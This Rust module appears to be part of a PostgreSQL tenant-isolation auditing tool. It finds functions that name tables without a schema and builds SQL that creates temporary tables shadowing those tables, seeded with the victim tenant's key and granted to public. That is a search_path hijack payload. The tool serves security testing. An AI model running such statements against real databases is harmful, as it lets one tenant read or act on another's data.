//! Temporary tables that stand in front of real ones: their names, their columns, and a row that leads to the victim.

use anyhow::Result;

use super::super::rows::fresh_value;
use super::super::specimen::{self, Specimen};
use super::super::world::World;
use super::Stage;
use crate::audit;
use crate::catalog::{Column, ConstraintKind, Function, Oid, Relation};
use crate::session::quote;

/// Keeps what the attacker chose apart from other values that are made up.
const SALT: u32 = 77;
/// Tables that are shadowed at once.
const MOST: usize = 6;

/// Relations that a body names without a schema, where its search path does not say where pg_temp comes.
pub(super) fn shadowed<'t>(stage: &Stage<'_, 't>, function: &Function) -> Vec<&'t Relation> {
    let pinned = function
        .config
        .iter()
        .find_map(|setting| setting.strip_prefix("search_path="));
    if pinned.is_some_and(|path| {
        path.split(',')
            .any(|part| part.trim().trim_matches('"') == "pg_temp")
    }) {
        return Vec::new();
    }
    let snapshot = stage.world.tenancy.snapshot;
    let (words, _) = audit::reach(snapshot, function);
    let body = function.body.to_lowercase();
    let mut found: Vec<&Relation> = snapshot
        .relations
        .values()
        .filter(|relation| words.contains(&relation.name.to_lowercase()))
        .filter(|relation| unqualified(&body, &relation.name.to_lowercase()))
        .filter(|relation| relation.kind.is_table())
        .collect();
    found.sort_by_key(|relation| relation.qualified());
    found.dedup_by_key(|relation| relation.name.clone());
    found.truncate(MOST);
    found
}

/// Whether a text has the name as a word without a schema in front of it.
fn unqualified(text: &str, name: &str) -> bool {
    text.match_indices(name).any(|(at, _)| {
        let word = |c: char| c.is_alphanumeric() || c == '_';
        let before = text[..at].trim_end_matches('"').chars().next_back();
        let after = text[at + name.len()..].chars().next();
        !before.is_some_and(|c| word(c) || c == '.') && !after.is_some_and(|c| word(c) || c == '.')
    })
}

/// The temporary tables that a body asks for by name.
pub(super) fn of_session(body: &str) -> Vec<String> {
    let lower = body.to_lowercase();
    let word = |c: char| c.is_alphanumeric() || c == '_';
    let mut found: Vec<String> = Vec::new();
    for (at, schema) in lower.match_indices("pg_temp.") {
        let rest = &lower[at + schema.len()..];
        let name: String = rest.chars().take_while(|c| word(*c)).collect();
        if !name.is_empty() && !found.contains(&name) {
            found.push(name);
        }
    }
    found.truncate(MOST);
    found
}

/// The statements that make a temporary table which says that the session is the victim's.
pub(super) fn claim(world: &World<'_>, table: &str) -> [String; 2] {
    let settings = &world.tenancy.settings.tenancy;
    let (table, key) = (quote::ident(table), quote::ident(&settings.key));
    let kind = settings.key_type.sql();
    [
        format!("create temporary table {table} ({key} {kind}) on commit drop"),
        format!(
            "insert into pg_temp.{table} values ({})",
            quote::literal(&world.b)
        ),
    ]
}

/// The statements that make the temporary tables, with a row each that leads to the victim.
pub(super) async fn tables(stage: &Stage<'_, '_>, shadowed: &[&Relation]) -> Result<Vec<String>> {
    let mut made = Vec::new();
    let world = stage.world;
    for relation in shadowed {
        let mut theirs: Option<Specimen> = None;
        if world.tenancy.tables.contains_key(&relation.oid) {
            theirs = specimen::fetch(stage.eye, world, relation.oid, &world.b).await?;
        }
        let mut columns = Vec::new();
        let mut values = Vec::new();
        for column in &relation.columns {
            let Some(type_name) = type_name(world, column) else {
                continue;
            };
            columns.push(format!("{} {type_name}", quote::ident(&column.name)));
            let value = value(world, (relation, column), theirs.as_ref());
            values.push(value.map_or_else(|| "null".to_owned(), |value| quote::literal(&value)));
        }
        let name = quote::ident(&relation.name);
        made.push(format!(
            "create temporary table {name} ({}) on commit drop",
            columns.join(", ")
        ));
        made.push(format!(
            "insert into pg_temp.{name} values ({})",
            values.join(", ")
        ));
        made.push(format!("grant select on pg_temp.{name} to public"));
    }
    Ok(made)
}

/// The victim's id where a tenant is named, its own value where another row is referred to, and what the attacker
/// chose for the rest.
fn value(
    world: &World<'_>,
    (relation, column): (&Relation, &Column),
    theirs: Option<&Specimen>,
) -> Option<String> {
    let settings = &world.tenancy.settings.tenancy;
    let key = world.tenancy.key_column(relation.oid);
    if key.is_some_and(|key| key.number == column.number) || column.name == settings.key {
        return Some(world.b.clone());
    }
    let mut references = relation.constraints.iter().filter(|constraint| {
        constraint.kind == ConstraintKind::Foreign && constraint.columns.contains(&column.number)
    });
    let real = || {
        let cell = theirs.and_then(|row| row.cell(relation, &column.name));
        cell.map(str::to_owned)
    };
    match references.next() {
        Some(constraint) if constraint.references == world.tenancy.registry.oid => {
            Some(world.b.clone())
        }
        Some(_) => real(),
        None => chosen(world, column.type_oid).or_else(real),
    }
}

/// What the attacker writes into his table and passes to the function, so that the two agree.
pub(super) fn chosen(world: &World<'_>, type_oid: Oid) -> Option<String> {
    fresh_value(world.tenancy.snapshot, &Column::of_type(type_oid), SALT)
}

fn type_name<'w>(world: &'w World<'_>, column: &Column) -> Option<&'w str> {
    let snapshot = world.tenancy.snapshot;
    let found = snapshot.types.get(&snapshot.base_type(column.type_oid))?;
    Some(&found.name)
}

#[cfg(test)]
mod tests {
    use super::{of_session, unqualified};

    #[test]
    fn temporary_tables_are_asked_for_by_their_schema() {
        let body =
            "if to_regclass('pg_temp.request') is not null then select * from pg_temp.request";
        assert_eq!(of_session(body), ["request"]);
        assert!(of_session("set search_path = public, pg_temp").is_empty());
    }

    #[test]
    fn a_name_counts_where_no_schema_is_in_front() {
        assert!(unqualified("select * from tokens t", "tokens"));
        assert!(!unqualified("select * from public.tokens t", "tokens"));
        assert!(!unqualified("select * from old_tokens", "tokens"));
        assert!(unqualified("select 1 from public.tokens, tokens", "tokens"));
        assert!(!unqualified(
            "select tokens.id from public.tokens",
            "tokens"
        ));
    }
}
